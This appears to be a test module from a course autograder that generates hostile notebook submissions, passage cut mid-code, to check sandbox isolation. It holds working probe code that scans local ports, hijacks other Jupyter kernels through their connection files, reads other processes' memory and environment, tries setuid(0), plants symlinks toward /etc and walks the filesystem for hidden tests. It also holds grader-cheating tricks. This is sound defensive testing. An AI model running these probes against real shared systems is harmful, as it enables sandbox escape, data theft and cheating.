"""Hostile submissions for every exercise: each tries to break, stall or cheat the autograder.

Every submission is a real notebook built from a topic's reference solution (``solutions/<topic>.ipynb``).  The
cheating ones start from that topic's *honest wrong answer* (each ``### BEGIN SOLUTION ... ### END SOLUTION`` region
replaced by a body with the right shapes, dtypes and devices but wrong values, ``WRONG_BODIES``) and add a trick; none
of them may score more than the honest wrong answer does on its own.  The disruptive ones (hangs, memory, forks,
floods, a dying kernel) must get a recorded score and a reason without disturbing anyone else in the batch.

Classes of tricks, for every topic (``CORPORA[topic]``):

- network: connect to ``PROBE_PORT`` (the tests listen there) and to every listening TCP port in /proc/net/tcp{,6};
  find other kernels' connection files and try their iopub and shell channels.  Each prints a ``*-PROBE`` line that
  says what it reached (the tests require: nothing).
- forging the ground truth: changing grader objects handed to the student's code (zeroed weights, ``apply``,
  ``train``), re-binding names the locked cells define (``F``, ``math``, constants, helpers), counting calls to tell
  tests apart, seeding the global RNG inside a graded function (``RNG-PROBE``: did the grader's RNG follow?).
- importing the answer: the course's chapter code, timm, torchvision, a forbidden built-in (also obfuscated).
- error paths: raising ValueError for every input.
- disruptions: exiting or looping forever when called.
- the sandbox itself: every file the kernel can see (``FILES-PROBE``: none may hold a hidden test, which every
  solution notebook, sanitized submission and gradebook does, or be a gradebook) and the processes around it
  (``PARENT-PROBE``).
- for attention (and a few for tnt), tampering with the notebook itself and the sandbox's limits.

    python -m tests.hostile_corpus OUT_DIR [TOPIC ...]     writes OUT_DIR/<name>/<topic>.ipynb (per topic folders
                                                           OUT_DIR/<topic>/... when several topics are given)
"""
from __future__ import annotations

import copy
import itertools
import re
import sys
import textwrap
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import nbformat

from autograder.reference import SOLUTIONS_DIR
from tests.planted_bugs import topic_data

TOPIC = "attention"          # the default topic (tests/test_grading_runs.py, benchmarks/grading.py)
PROBE_PORT = 47613           # tests/test_hostile.py listens on 127.0.0.1:PROBE_PORT during each batch

# Per topic, per solution cell (grade_id): the body of each solution region, in order (one string: every region).
# Shapes, dtypes and devices right, values wrong; the signatures and anything outside the regions are kept.
WRONG_BODIES: dict[str, dict[str, str | list[str]]] = {
    "attention": {
        "sdpa": "return q.new_zeros(*q.shape[:-1], v.shape[-1]), q.new_zeros(*q.shape[:-1], k.shape[-2])",
        "mha": "batch, len_q, _ = query.shape\n"
               "return (query.new_zeros(batch, len_q, self.d_model),\n"
               "        query.new_zeros(batch, self.num_heads, len_q, key.shape[1]))",
        "packed": "q, k, v = qkv.reshape(batch, 3, self.num_heads, length, self.d_head).unbind(dim=1)",  # the bug, kept
        "gqa": "return q.new_zeros(*q.shape[:-1], v.shape[-1]), q.new_zeros(*q.shape[:-1], k.shape[-2])",
        "costs": ["return 0", "return 0", "return 0", "return 0"],
    },
    "masking": {
        "padding_mask": "return torch.zeros(lengths.shape[0], max_len, dtype=torch.bool, device=lengths.device)",
        "causal_mask": "return torch.zeros(n, n, dtype=torch.bool, device=device)",
        "attention_mask": "return torch.zeros(lengths.shape[0], 1, max_len, max_len, dtype=torch.bool,\n"
                          "                   device=lengths.device)",
        "masked_softmax": "shape = scores.shape if mask is None else torch.broadcast_shapes(scores.shape, mask.shape)\n"
                          "return scores.new_zeros(shape)",
        "masked_attention": "return q.new_zeros(*q.shape[:-1], v.shape[-1]), q.new_zeros(*q.shape[:-1], k.shape[-2])",
        "prefix_lm_mask": "return torch.zeros(lengths.shape[0], 1, max_len, max_len, dtype=torch.bool,\n"
                          "                   device=lengths.device)",
        "counts": ["return 0", "return 0.5"],
        "masked_token_loss": "return per_token.sum() * 0.0",
    },
    "positional_encoding": {
        "sinusoidal": "return torch.zeros(max_len, d_model, dtype=dtype or torch.get_default_dtype(), device=device)",
        "learned": "return torch.zeros_like(x)",
        "relative_index": "return torch.zeros(window_h * window_w, window_h * window_w, dtype=torch.long, device=device)",
        "rope": "return torch.zeros_like(x)",
        "resample": "return pos_embed.new_zeros(1, num_prefix_tokens + new_size[0] * new_size[1], pos_embed.shape[-1])",
        "counts": ["return 0", "return 0", "return 0"],
        "rotary_attention": "q, k, v = rotate(q), rotate(k), rotate(v)   # the bug, kept\n"
                            "scores = q @ k.transpose(-2, -1) / math.sqrt(d)\n"
                            "return scores.softmax(dim=-1) @ v",
    },
    "encoder_decoder": {
        "encoder_layer": "return torch.zeros_like(x)",
        "decoder_layer": "return torch.zeros_like(x)",
        "model": [
            "return src.new_zeros(*src.shape, self.d_model, dtype=self.src_embed.weight.dtype)",
            "return tgt.new_zeros(*tgt.shape, self.out_proj.out_features, dtype=self.out_proj.weight.dtype)",
            "return self.decode(tgt, self.encode(src), src)",
        ],
        "loss": "return (logits * 0.0).sum()",
        "greedy": "return torch.full((src.shape[0], max_len), pad_id, dtype=torch.long, device=src.device)",
        "beam": "return torch.full((1,), eos_id, dtype=torch.long, device=src.device), torch.zeros((), device=src.device)",
        "counts": ["return 0", "return 0", "return 0"],
        "masks": "causal = torch.ones(length, length, dtype=torch.bool, device=tgt.device).tril(diagonal=1)  # the bug, kept",
    },
    "vit": {
        "patchify": "batch, channels, height, width = images.shape\n"
                    "return images.new_zeros(batch, (height // patch_size) * (width // patch_size),\n"
                    "                        patch_size * patch_size * channels)",
        "patch_embed": "return images.new_zeros(images.shape[0], self.num_patches, self.proj.out_channels)",
        "block": "return torch.zeros_like(x)",
        "vit": [
            "return x.new_zeros(x.shape[0], x.shape[1] + 1, x.shape[2])",
            "return images.new_zeros(images.shape[0], 1 + self.patch_embed.num_patches, self.pos_embed.shape[-1])",
            "return x.new_zeros(x.shape[0], self.head.out_features)",
            "return images.new_zeros(images.shape[0], self.head.out_features)",
        ],
        "attention_distance": "return weights.new_zeros(weights.shape[1])",
        "counts": ["return 0", "return 0"],
        "unpatchify": "return patches.new_zeros(patches.shape[0], patches.shape[-1] // (patch_size * patch_size), "
                      "height, width)",
    },
    "tnt": {
        "pixel_embed": "return x.new_zeros(x.shape[0] * self.num_patches, self.num_words, self.proj.out_channels)",
        "inner_to_outer": "return patch_embed.clone()   # the class token is right; the patches miss their words",
        "block": "return pixel_embed.clone(), patch_embed.clone()",
        "inner_attention": ["return torch.ones(num_patches * num_words, num_patches * num_words, dtype=torch.bool, "
                            "device=device)", "return pixel_embed.clone()"],
        "tnt_parameters": "return 0",
    },
    "swin": {
        "windows": [
            "win_h, win_w = to_pair(window_size)\n"
            "batch, height, width, channels = x.shape\n"
            "return x.new_zeros(batch * (height // win_h) * (width // win_w), win_h, win_w, channels)",
            "win_h, win_w = to_pair(window_size)\n"
            "return windows.new_zeros(windows.shape[0] // ((height // win_h) * (width // win_w)), height, width,\n"
            "                         windows.shape[-1])",
        ],
        "relpos": "return torch.zeros(win_h * win_w, win_h * win_w, dtype=torch.long, device=device)",
        "mask": "win_h, win_w = to_pair(window_size)\n"
                "return torch.ones((height // win_h) * (width // win_w), win_h * win_w, win_h * win_w, device=device,\n"
                "                  dtype=dtype or torch.get_default_dtype())",
        "wattn": [
            "n = self.relative_position_index.shape[0]\n"
            "return self.relative_position_bias_table.new_zeros(self.num_heads, n, n)",
            "return torch.zeros_like(x)",
        ],
        "block": ["return (1, 1)", "return torch.zeros_like(x)"],
        "masked_pairs": "return 0",
        "cost": ["return 0", "return 0"],
        "stages": "return [(1, 1, 1, (1, 1), (0, 0))] * num_stages",
        "expand": "return x.new_zeros(x.shape[0], 2 * x.shape[1], 2 * x.shape[2], self.dim // 2)",
        "merge": "return x.new_zeros(x.shape[0], x.shape[1] // 2, x.shape[2] // 2, self.out_dim)",
    },
}

# What the tests call, per topic: (grade_id of the cell that defines it, "function" or "Class.method").
GRADED: dict[str, list[tuple[str, str]]] = {
    "attention": [("sdpa", "scaled_dot_product_attention"), ("mha", "MultiHeadAttention.forward"),
                  ("packed", "PackedSelfAttention.forward"), ("gqa", "grouped_query_attention"),
                  ("costs", "attention_flops"), ("costs", "attention_weights_bytes"), ("costs", "mha_flops"),
                  ("costs", "gqa_parameters")],
    "masking": [("padding_mask", "padding_mask"), ("causal_mask", "causal_mask"), ("attention_mask", "attention_mask"),
                ("masked_softmax", "masked_softmax"), ("masked_attention", "masked_attention"),
                ("prefix_lm_mask", "prefix_lm_mask"), ("counts", "prefix_lm_pairs"), ("counts", "masked_fraction"),
                ("masked_token_loss", "masked_token_loss")],
    "positional_encoding": [("sinusoidal", "sinusoidal_encoding"), ("learned", "LearnedPositionalEmbedding.forward"),
                            ("relative_index", "relative_position_index"), ("rope", "apply_rotary"),
                            ("resample", "resample_pos_embed"), ("counts", "relative_bias_parameters"),
                            ("counts", "swin_relative_bias_parameters"), ("counts", "vit_pos_embed_parameters"),
                            ("rotary_attention", "rotary_attention")],
    "encoder_decoder": [("encoder_layer", "EncoderLayer.forward"), ("decoder_layer", "DecoderLayer.forward"),
                        ("model", "Seq2SeqTransformer.encode"), ("model", "Seq2SeqTransformer.decode"),
                        ("model", "Seq2SeqTransformer.forward"), ("loss", "label_smoothed_cross_entropy"),
                        ("greedy", "greedy_decode"), ("beam", "beam_search"), ("counts", "encoder_layer_parameters"),
                        ("counts", "decoder_layer_parameters"), ("counts", "seq2seq_parameters"),
                        ("masks", "seq2seq_masks")],
    "vit": [("patchify", "patchify"), ("patch_embed", "PatchEmbed.forward"),
            ("patch_embed", "PatchEmbed.forward_as_linear"), ("block", "Mlp.forward"), ("block", "Block.forward"),
            ("vit", "VisionTransformer.embed_positions"), ("vit", "VisionTransformer.forward_features"),
            ("vit", "VisionTransformer.forward_head"), ("vit", "VisionTransformer.forward"),
            ("attention_distance", "mean_attention_distance"), ("counts", "vit_parameters"), ("counts", "vit_macs"),
            ("unpatchify", "unpatchify")],
    "tnt": [("pixel_embed", "PixelEmbed.forward"), ("inner_to_outer", "inner_to_outer"), ("block", "Block.forward"),
            ("inner_attention", "word_attention_mask"), ("inner_attention", "inner_attention_as_one_sequence"),
            ("tnt_parameters", "tnt_parameters")],
    "swin": [("windows", "window_partition"), ("windows", "window_reverse"), ("relpos", "relative_position_index"),
             ("mask", "shifted_window_mask"), ("wattn", "WindowAttention.relative_position_bias"),
             ("wattn", "WindowAttention.forward"), ("block", "shift_for_block"), ("block", "SwinBlock.forward"),
             ("masked_pairs", "masked_pairs"), ("cost", "block_parameters"), ("cost", "block_macs"),
             ("stages", "stage_shapes"), ("expand", "PatchExpanding.forward"), ("merge", "PatchMerging.forward")],
}


# A topic's own file may hold its entries instead (``WRONG_BODIES = {grade_id: body}``, ``GRADED = [(grade_id, name)]``
# in tests/planted/<topic>.py): a new chapter's test data then lives in that one file.
for _topic, _bodies in topic_data("WRONG_BODIES").items():
    WRONG_BODIES.setdefault(_topic, _bodies)
for _topic, _graded in topic_data("GRADED").items():
    GRADED.setdefault(_topic, _graded)
TOPICS = list(WRONG_BODIES)


def _cell(nb, grade_id: str):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def _solution_ids(topic: str) -> list[str]:
    return [c.metadata["nbgrader"]["grade_id"] for c in reference_notebook(topic).cells
            if c.metadata.get("nbgrader", {}).get("solution")]


def reference_notebook(topic: str = TOPIC):
    return nbformat.read(SOLUTIONS_DIR / f"{topic}.ipynb", as_version=4)


def _replace_regions(source: str, bodies: str | list[str]) -> str:
    regions = iter([bodies] * source.count("### BEGIN SOLUTION") if isinstance(bodies, str) else bodies)

    def body(match):
        indent = match.group(1)
        return textwrap.indent(textwrap.dedent(next(regions)), indent)

    return re.sub(r"( *)### BEGIN SOLUTION.*?### END SOLUTION", body, source, flags=re.S)


def honest_wrong_answer(topic: str = TOPIC):
    nb = reference_notebook(topic)
    for grade_id, bodies in WRONG_BODIES[topic].items():
        cell = _cell(nb, grade_id)
        cell.source = _replace_regions(cell.source, bodies)
    return nb


def _append(grade_id: str, code: str) -> Callable:
    def edit(nb):
        _cell(nb, grade_id).source += "\n\n" + textwrap.dedent(code).strip() + "\n"
    return edit


def _edits(*edits: Callable) -> Callable:
    def edit(nb):
        for one in edits:
            one(nb)
    return edit


def _test_cells(nb):
    return [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade")
            and not c.metadata["nbgrader"].get("solution")]


def _delete_test_cell(nb):
    nb.cells.remove(_test_cells(nb)[0])


def _duplicate_test_cell(nb):
    cell = _test_cells(nb)[0]
    nb.cells.insert(nb.cells.index(cell), copy.deepcopy(cell))


def _retype_test_cells(nb):
    for cell in _test_cells(nb):
        cell.cell_type = "markdown"
        cell.pop("outputs", None)
        cell.pop("execution_count", None)


def _rewrite_test_cells(nb):
    for cell in _test_cells(nb):
        cell.source = "print('all tests passed')"


def _raise_points(nb):
    for cell in _test_cells(nb):
        cell.metadata["nbgrader"]["points"] = 1000
        cell.metadata["nbgrader"]["grade"] = False  # and pretend it is not a test cell at all


def _turn_tests_into_solutions(nb):
    for cell in _test_cells(nb):
        cell.metadata["nbgrader"]["solution"] = True
        cell.source = "pass"


def _forge_schema_version(nb):
    # nbgrader raises SchemaTooNewError for this, which stops its whole batch, not just this notebook
    _test_cells(nb)[0].metadata["nbgrader"]["schema_version"] = 99


def _bad_kernelspec(nb):
    nb.metadata["kernelspec"] = {"name": "no-such-kernel", "display_name": "nope", "language": "cobol"}


def _empty(nb):
    nb.cells = []


@dataclass(frozen=True)
class Hostile:
    name: str
    edit: Callable | None   # applied to the honest wrong answer; None: the file below instead of a notebook
    disrupts: bool = False  # expected to stop the run early: must come with a reason
    raw: str | None = None
    structural: bool = False  # tampers with the notebook's cells: nbgrader itself may refuse it
    probe: str | None = None  # the marker (NETWORK-PROBE, KERNEL-PROBE, RNG-PROBE, ...) its outputs must show
    blank: bool = False       # starts from the blank student stub (exercises/<topic>.ipynb): must score 0


# ---------------------------------------------------------------------------------------------------- snippets
_ids = itertools.count(1)


def _hook(target: str, pre: str) -> str:
    """Code that wraps ``target`` ("function" or "Class.method"): ``pre`` runs first (it sees ``args``, ``kwargs``),
    then the wrapped code (the honest wrong answer) answers."""
    n = next(_ids)
    pre = textwrap.indent(textwrap.dedent(pre).strip(), "    ")
    if "." in target:
        cls, method = target.split(".")
        return (f"_wrapped_{n} = {cls}.{method}\n"
                f"def _hooked_{n}(self, *args, **kwargs):\n{pre}\n"
                f"    return _wrapped_{n}(self, *args, **kwargs)\n"
                f"{cls}.{method} = _hooked_{n}\n")
    return (f"_wrapped_{n} = {target}\n"
            f"def {target}(*args, **kwargs):\n{pre}\n"
            f"    return _wrapped_{n}(*args, **kwargs)\n")


def _hook_all(topic: str, pre: str, only_first: bool = False) -> Callable:
    graded = GRADED[topic][:1] if only_first else GRADED[topic]
    return _edits(*(_append(grade_id, _hook(target, pre)) for grade_id, target in graded))


NETWORK_PROBE = f"""
import json as _json, socket as _socket
def _listening_ports():
    ports, _own = set(), _own_sockets()
    for _table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            _lines = open(_table).read().splitlines()[1:]
        except OSError:
            continue
        for _line in _lines:
            _fields = _line.split()
            if len(_fields) > 9 and _fields[3] == "0A" and _fields[9] not in _own:   # LISTEN, not ours
                ports.add(int(_fields[1].rsplit(":", 1)[1], 16))
    return ports
def _own_sockets():
    # sockets of this sandbox's own processes (same uid, visible here): talking to oneself proves nothing
    import glob, os
    inodes = set()
    for _fd in glob.glob("/proc/[0-9]*/fd/*"):
        try:
            if os.stat(_fd.split("/fd/")[0]).st_uid == os.getuid():
                _link = os.readlink(_fd)
                if _link.startswith("socket:["):
                    inodes.add(_link[8:-1])
        except OSError:
            pass
    return inodes
def _network_probe():
    listening = _listening_ports()
    reached = []
    for _port in sorted(listening | {{{PROBE_PORT}}})[:500]:
        for _family, _host in ((_socket.AF_INET, "127.0.0.1"), (_socket.AF_INET6, "::1")):
            try:
                with _socket.socket(_family, _socket.SOCK_STREAM) as _s:
                    _s.settimeout(0.3)
                    _s.connect((_host, _port))
                    _s.sendall(b"hostile submission: give me the answers\\n")
                    reached.append(f"{{_host}}:{{_port}}")
            except OSError:
                pass
    return listening, reached
_listening, _reached = _network_probe()
# had it reached the grader or another kernel, it would now ask it for the answers; the answers stay wrong
print("NETWORK-PROBE listening=" + str(len(_listening)) + " reached=" + _json.dumps(_reached))
"""

PARENT_PROBE = """
import glob as _glob, os as _os, re as _re, signal as _signal, socket as _socket
def _parent_probe():
    read, signalled, reached = [], [], []
    # pid 1 of the kernel's namespace (bubblewrap, or the zygote's child) and every process it can see: their
    # memory, environment and files are root's
    for _pid in sorted({1, _os.getppid()} | {int(p) for p in _os.listdir("/proc") if p.isdigit()} - {_os.getpid()}):
        for _what in ("environ", "mem", "maps", "cwd", "root", "fd"):
            try:
                _path = f"/proc/{_pid}/{_what}"
                open(_path, "rb").read(64) if _what in ("environ", "mem", "maps") else _os.listdir(_path)
                if _os.stat(f"/proc/{_pid}").st_uid != _os.getuid():
                    read.append(_path)
            except OSError:
                pass
        try:
            _os.kill(_pid, 0)
            if _os.stat(f"/proc/{_pid}").st_uid != _os.getuid():
                signalled.append(_pid)
        except OSError:
            pass
    # every unix socket named anywhere it can look: pid 1's command line (the zygote's folder), /proc/net/unix
    _paths = set()
    for _cmdline in _glob.glob("/proc/[0-9]*/cmdline"):
        try:
            for _arg in open(_cmdline, "rb").read().decode(errors="replace").split("\\0"):
                if _arg.startswith("/"):
                    _paths.update({_arg, _os.path.join(_arg, "zygote.sock")})
        except OSError:
            pass
    try:
        _paths.update(line.split()[-1] for line in open("/proc/net/unix").read().splitlines()[1:]
                      if len(line.split()) > 7)
    except OSError:
        pass
    for _path in sorted(_paths)[:200]:
        _sock = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
        _sock.settimeout(1)
        try:
            _sock.connect(_path if not _path.startswith("@") else "\\0" + _path[1:])
            if "kernel" not in _path and "/runtime/" not in _path:   # not its own Jupyter channels
                reached.append(_path)
        except OSError:
            pass
        finally:
            _sock.close()
    try:
        _os.setuid(0)
        read.append("setuid(0)")
    except OSError:
        pass
    print(f"PARENT-PROBE read={read!r} signalled={signalled!r} reached={reached!r}".replace("'", '"'))
_parent_probe()
"""


# Every file the kernel can see, walked to the end (links not followed).
# The grader's secrets all hold hidden tests (which import ``grading_seed``): the reference solutions, the gradebook
# (it stores their source) and what nbgrader made of any submission (the sanitized notebook restores them).
WALK_FILES = """
import os as _os
def _walk_files(suffixes=None):
    for _dir, _dirs, _files in _os.walk("/"):
        # what pip and apt installed is no place the grader writes to (importing from there: the imports-* cases);
        # /proc and /sys are the kernel's (the processes around it: PARENT-PROBE); /dev is walked (/dev/shm)
        if _dir in ("/proc", "/sys", "/usr") or _dir.endswith("/site-packages"):
            _dirs.clear()
            continue
        for _name in _files:
            if suffixes is None or _name.endswith(suffixes):
                yield _os.path.join(_dir, _name)
"""

FILES_PROBE = WALK_FILES + """
def _files_probe():
    seen, secrets = 0, []
    # spelled apart: this cell's source is on disk too (IPython's history), and is no secret
    _markers = [" ".join(["BEGIN", "HIDDEN", "TESTS"]).encode(), "_".join(["grading", "seed"]).encode()]
    for _path in _walk_files():
        seen += 1
        try:
            if not _os.path.isfile(_path) or _os.path.getsize(_path) > 4 * 1024 * 1024:
                continue
            with open(_path, "rb") as _file:
                _data = _file.read()
        except OSError:
            continue
        _gradebook = _data.startswith(b"SQLite format 3") and "_".join(["grade", "cells"]).encode() in _data
        if _gradebook or any(_marker in _data for _marker in _markers):
            secrets.append(_path)
    print(f"FILES-PROBE seen={seen} secrets={secrets!r}".replace("'", '"'))
_files_probe()
"""


KERNEL_PROBE = """
import glob as _glob, json as _json, os as _os
def _connection_files():
    files = set()
    for _pattern in ("/tmp/**/kernel*.json", "/run/**/kernel*.json", "/run/**/jupyter/**/*.json",
                     "/dev/shm/**/*.json", "/root/.local/share/jupyter/runtime/*.json",
                     "/home/*/.local/share/jupyter/runtime/*.json",
                     _os.path.expanduser("~/.local/share/jupyter/runtime/*.json"),
                     _os.path.join(_os.environ.get("JUPYTER_RUNTIME_DIR", "/nonexistent"), "*.json")):
        try:
            files.update(_glob.glob(_pattern, recursive=True))
        except OSError:
            pass
    for _cmdline in _glob.glob("/proc/[0-9]*/cmdline"):
        try:
            _argv = open(_cmdline, "rb").read().split(b"\\0")
        except OSError:
            continue
        for _i, _arg in enumerate(_argv[:-1]):
            if _arg in (b"-f", b"--f", b"--existing"):
                files.add(_argv[_i + 1].decode(errors="replace"))
            elif _arg.startswith(b"--f="):
                files.add(_arg[4:].decode(errors="replace"))
    return files
def _own_connection_file():
    try:
        from ipykernel.connect import get_connection_file
        return _os.path.realpath(get_connection_file())
    except Exception:
        return None
def _kernel_probe():
    import zmq
    from jupyter_client.session import Session
    own = _own_connection_file()
    readable, reached = [], []
    context = zmq.Context.instance()
    for _path in sorted(_connection_files())[:30]:
        if own and _os.path.realpath(_path) == own:
            continue
        try:
            _info = _json.load(open(_path))
            _ = _info["iopub_port"], _info["key"]
        except Exception:
            continue
        readable.append(_path)
        _transport, _ip = _info.get("transport", "tcp"), _info.get("ip", "127.0.0.1")
        _address = (lambda port: f"{_transport}://{_ip}:{port}" if _transport == "tcp" else f"{_transport}://{_ip}-{port}")
        _sub = context.socket(zmq.SUB)
        _sub.setsockopt(zmq.LINGER, 0)
        _sub.setsockopt(zmq.SUBSCRIBE, b"")
        _sub.connect(_address(_info["iopub_port"]))
        _shell = context.socket(zmq.DEALER)
        _shell.setsockopt(zmq.LINGER, 0)
        _shell.connect(_address(_info["shell_port"]))
        try:
            _session = Session(key=str(_info["key"]).encode(), signature_scheme=_info.get("signature_scheme", "hmac-sha256"))
            _session.send(_shell, "kernel_info_request", {})
            if _shell.poll(1000):
                reached.append(["shell", _path])
            if _sub.poll(500):
                reached.append(["iopub", _path])
        except Exception as _exc:
            print("kernel probe:", type(_exc).__name__)
        finally:
            _sub.close()
            _shell.close()
    return readable, reached
_readable, _reached = _kernel_probe()
# had it reached another kernel or the grader, it would take their answers; the answers stay wrong
print("KERNEL-PROBE readable=" + _json.dumps(_readable) + " reached=" + _json.dumps(_reached))
"""

RNG_SEED = 48611   # a seed no setup cell or test uses: seed 0 inputs would match after seed_everything(0)
RNG_PROBE_SETUP = f"""
import torch as _rng_torch
_RNG_PROBE = {{"calls": 0, "controlled": 0}}
RNG_SEED = {RNG_SEED}
def _rng_probe(args):
    # did the grader's random inputs follow the seed this function set on its previous call?
    _RNG_PROBE["calls"] += 1
    for _a in args:
        if isinstance(_a, _rng_torch.Tensor) and _a.is_floating_point() and _a.device.type == "cpu" and _a.numel() > 3:
            _predicted = _rng_torch.randn(_a.shape, generator=_rng_torch.Generator().manual_seed(RNG_SEED), dtype=_a.dtype)
            _RNG_PROBE["controlled"] += int(_rng_torch.equal(_a, _predicted))
            break
    _rng_torch.manual_seed(RNG_SEED)
    _rng_torch.set_rng_state(_rng_torch.Generator().manual_seed(RNG_SEED).get_state())
"""
RNG_PROBE_REPORT = 'print(f"RNG-PROBE calls={_RNG_PROBE[\'calls\']} controlled={_RNG_PROBE[\'controlled\']}")'


def _sets_the_global_rng(topic: str) -> Callable:
    """Seed the global RNG inside the graded code; report, in the last solution cell, whether it took over the
    grader's random inputs.  Hooks every graded part defined before the last solution cell."""
    ids = _solution_ids(topic)
    first, last = ids[0], ids[-1]
    hooked = [(g, t) for g, t in GRADED[topic] if g != last] or GRADED[topic][:1]
    return _edits(_append(first, RNG_PROBE_SETUP),
                  *(_append(g, _hook(t, "_rng_probe(args)")) for g, t in hooked),
                  _append(last, RNG_PROBE_REPORT))


COUNTS_CALLS = """
_CALLS = globals().setdefault("_CALLS", {})
_CALLS[%r] = _CALLS.get(%r, 0) + 1
if _CALLS[%r] > 3:   # past the first test: "must be an error test", so raise what error tests expect
    raise ValueError("counted my calls: this must be an error-path test")
"""


def _counts_calls(topic: str) -> Callable:
    return _edits(*(_append(g, _hook(t, COUNTS_CALLS % (t, t, t))) for g, t in GRADED[topic]))


def _generic(topic: str) -> list[Hostile]:
    """The tricks every topic gets."""
    first = _solution_ids(topic)[0]
    return [
        Hostile("network-tcp-ports", _append(first, NETWORK_PROBE), probe="NETWORK-PROBE"),
        Hostile("network-kernel-connection-files", _append(first, KERNEL_PROBE), probe="KERNEL-PROBE"),
        Hostile("imports-timm-from-a-wheel-on-disk", _append(first, WHEEL_HUNT), probe="WHEEL-PROBE"),
        # a blank notebook that would copy what other kernels graded at the same time execute
        Hostile("blank-stub-reaches-for-ports", _append(first, NETWORK_PROBE), probe="NETWORK-PROBE", blank=True),
        Hostile("blank-stub-reaches-for-kernels", _append(first, KERNEL_PROBE), probe="KERNEL-PROBE", blank=True),
        Hostile("sets-the-global-rng-when-called", _sets_the_global_rng(topic), probe="RNG-PROBE"),
        Hostile("links-where-the-grader-writes", _append(first, LINKS_WHERE_THE_GRADER_WRITES), probe="LINK-PROBE"),
        Hostile("moves-its-folder-for-a-link", _moves_its_folder(topic), probe="LINK-PROBE"),
        Hostile("reaches-for-its-parents", _append(first, PARENT_PROBE), probe="PARENT-PROBE"),
        Hostile("reads-every-file-it-can-see", _append(first, FILES_PROBE), probe="FILES-PROBE"),
        Hostile("counts-calls-to-find-the-error-tests", _counts_calls(topic)),
        Hostile("raises-value-error-for-every-input",
                _hook_all(topic, 'raise ValueError("I reject every input, hoping for the error-test points")')),
        Hostile("os-exit-when-called", _hook_all(topic, "import os\nos._exit(5)", only_first=True), disrupts=True),
        Hostile("infinite-loop-when-called", _hook_all(topic, "while True:\n    pass", only_first=True),
                disrupts=True),
    ]


# A server of its own that speaks the protocol (autograder/protocol/kernel_server.py) and answers every request
# with what ``_forge(path)`` writes there.
FORGED_SERVER = """
def __course_serve__(folder):
    import os
    bell_in = os.open(os.path.join(folder, ".doorbell-in"), os.O_RDONLY)
    bell_out = os.open(os.path.join(folder, ".doorbell-out"), os.O_WRONLY)
    heard = b""
    while True:
        while b"\\n" not in heard:
            heard += os.read(bell_in, 4096)
        line, heard = heard.split(b"\\n", 1)
        if line == b"stop":
            break
        _forge(os.path.join(folder, f".answer-{line.decode()}.pt"))
        os.write(bell_out, line + b"\\n")
    os.close(bell_in)
    os.close(bell_out)
"""

# Links, in its own folder, at the names the grader writes (a message is written under a temporary name, then
# renamed): a grader that followed them would write as root wherever they point.
LINKS_WHERE_THE_GRADER_WRITES = """
import os
_made = 0
for _n in range(1, 1200):
    for _name, _target in ((f".grader-{_n}.pt.tmp", "/tmp/pwned"), (f".grader-{_n}.pt", "/etc/evil.txt"),
                           (f".answer-{_n}.pt", "/etc/evil.txt"), (f".callback-{_n}.answer.pt.tmp", "/tmp/pwned"),
                           (f".callback-{_n}.answer.pt", "/tmp/pwned")):
        try:
            os.symlink(_target, os.path.join(os.getcwd(), _name))
            _made += 1
        except OSError:
            pass
print(f"LINK-PROBE made={_made}")
"""

# Its folder moved away and a link to /etc in its place. The grader's server is wrapped to look for the grader's
# messages in /etc whenever it serves, and the last solution cell reports what it saw: a grader that reached the
# folder by its path would have written them there (as root), where this kernel (its /etc is the real one,
# read-only) sees them.
MOVES_ITS_FOLDER = """
import glob as _glob, os as _os
_LINK_SEEN = []
_served_by = __course_serve__
def __course_serve__(*args, **kwargs):
    _LINK_SEEN.extend(_glob.glob("/etc/.grader-*"))
    return _served_by(*args, **kwargs)
_here = _os.getcwd()
_os.rename(_here, _here + ".moved")
_os.symlink("/etc", _here)
"""
MOVES_ITS_FOLDER_REPORT = 'print(f"LINK-PROBE made=1 seen={len(_LINK_SEEN)}")'


def _moves_its_folder(topic: str) -> Callable:
    ids = _solution_ids(topic)
    return _edits(_append(ids[0], MOVES_ITS_FOLDER), _append(ids[-1], MOVES_ITS_FOLDER_REPORT))


WHEEL_HUNT = """
import glob, os, sys, zipfile
_found = []
for _root in ("/opt", "/usr/share", "/usr/local", "/root", "/home", "/var", "/srv", "/mnt", sys.prefix, sys.base_prefix):
    for _pattern in ("timm*.whl", "torchvision*.whl", "timm*.tar.gz"):
        _found += glob.glob(os.path.join(_root, "**", _pattern), recursive=True)[:5]
_imported = []
for _wheel in _found:
    sys.path.insert(0, _wheel)        # a pure-Python wheel imports as it is
    try:
        import importlib
        for _name in list(sys.modules):
            if _name.split(".")[0] in ("timm", "torchvision"):
                del sys.modules[_name]
        importlib.import_module("timm.layers")
        _imported.append(_wheel)
    except Exception as _exc:
        pass
print(f"WHEEL-PROBE found={_found} imported={_imported}")
"""


def _imports(grade_id: str, label: str, code: str) -> Hostile:
    """Delegate to someone else's implementation; the honest wrong answer stays when it cannot be imported."""
    body = textwrap.indent(textwrap.dedent(code).strip(), "    ")
    return Hostile(f"imports-{label}", _append(grade_id, f"""
try:
{body}
    print("IMPORTED {label}")
except Exception as exc:   # ImportError where the package is hidden: keep the honest wrong answer
    print("could not import {label}:", type(exc).__name__, exc)
"""))


def _forbidden(grade_id: str, label: str, target: str, code: str) -> Hostile:
    """Call a forbidden built-in inside the graded code, falling back to the honest wrong answer when it raises."""
    n = next(_ids)
    body = textwrap.indent(textwrap.dedent(code).strip(), "        ")
    fn = target.split(".")[-1]
    if "." in target:
        cls = target.split(".")[0]
        return Hostile(f"uses-{label}", _append(grade_id, f"""
_honest_{n} = {target}
def _forbidden_{n}(self, *args, **kwargs):
    try:
{body}
    except Exception as exc:
        print("forbidden built-in refused:", type(exc).__name__)
        return _honest_{n}(self, *args, **kwargs)
{cls}.{fn} = _forbidden_{n}
"""))
    return Hostile(f"uses-{label}", _append(grade_id, f"""
_honest_{n} = {target}
def {target}(*args, **kwargs):
    try:
{body}
    except Exception as exc:
        print("forbidden built-in refused:", type(exc).__name__)
        return _honest_{n}(*args, **kwargs)
"""))
# ---------------------------------------------------------------------------------------------------- attention: the original corpus
CHEATS = [
    # tests are made to pass without a correct answer
    Hostile("strips-asserts-ast", _append("sdpa", """
import ast
class _NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
